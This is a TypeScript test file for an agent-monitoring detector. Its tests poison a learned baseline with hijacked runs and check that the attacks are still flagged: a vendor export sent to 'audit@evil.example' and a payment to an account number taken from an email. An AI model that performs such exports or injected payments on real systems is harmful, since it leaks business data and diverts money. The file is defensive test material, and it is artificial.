import { describe, expect, test } from 'vitest';
import type { Baseline } from '../../src/baseline/artefact.ts';
import { draftCharter } from '../../src/baseline/draft.ts';
import { Setting } from '../../src/baseline/setting.ts';
import { baseline as detector } from '../../src/detectors/baseline.ts';
import type { Told } from '../detectors/sessions.ts';
import { account, baselineOf, goalOf, payment, payments, run } from './histories.ts';

// Hijacked runs that no detector noticed stand among the clean ones. The alarm must go on, or what they planted must be
// in front of the person who reads the draft.

const RUNS = 200;
const STRANGER = account(88);
const EXPORT: Told = ['export_vendors', { to: 'audit@evil.example' }, 'sent'];

const exporting = (i: number): Told[] => [...payment(i), EXPORT];
const paying = (i: number): Told[] => payment(i, { iban: STRANGER, from: 'mail' });

function poisoned(percent: number, attack: (i: number) => Told[]): Baseline {
  const bad = Math.round((RUNS * percent) / 100);
  const attacks = Array.from({ length: bad }, (_, i) => run(`bad${i}`, goalOf(i), attack(i)));
  return baselineOf([...payments(RUNS - bad), ...attacks]);
}

function isNoticed(baseline: Baseline, attack: (i: number) => Told[]): boolean {
  const { action, history } = run('now', goalOf(150), attack(150)).at(-1)!;
  return detector.inspect(action, { history, charter: null, baseline }).length > 0;
}

describe.each([
  ['a tool that is not needed', exporting],
  ['an account from a mail', paying],
])('%s, in a share of the history', (_, attack) => {
  test.each([0, 1, 2, 4])('%i %%: noticed all the same', (percent) => {
    expect(isNoticed(poisoned(percent, attack), attack)).toBe(true);
  });
});

test('what was planted in few runs is listed in the draft as seen and not learned', () => {
  const draft = draftCharter(poisoned(4, exporting), new Setting());
  expect(draft).toContain('#   tool export_vendors: 8 runs');
  expect(draft).not.toMatch(/^ {2}export_vendors:/m);
  expect(draftCharter(poisoned(4, paying), new Setting())).toContain(
    'argument iban of send_payment from prose:read_mail: 8 runs',
  );
});

test('what was planted in many runs is learned, and the draft says how rare it is', () => {
  const baseline = poisoned(8, exporting);
  expect(baseline.tools.export_vendors?.runs).toBe(16);
  expect(draftCharter(baseline, new Setting())).toMatch(/export_vendors:.*in 16 of 200 runs.*rare/);
});

test('an account planted in many runs becomes no system of record', () => {
  const { records } = poisoned(8, paying).tools.send_payment!.arguments.iban!;
  expect(records).toEqual({ lookup_vendor: 184 });
  expect(isNoticed(poisoned(8, paying), paying)).toBe(true);
});
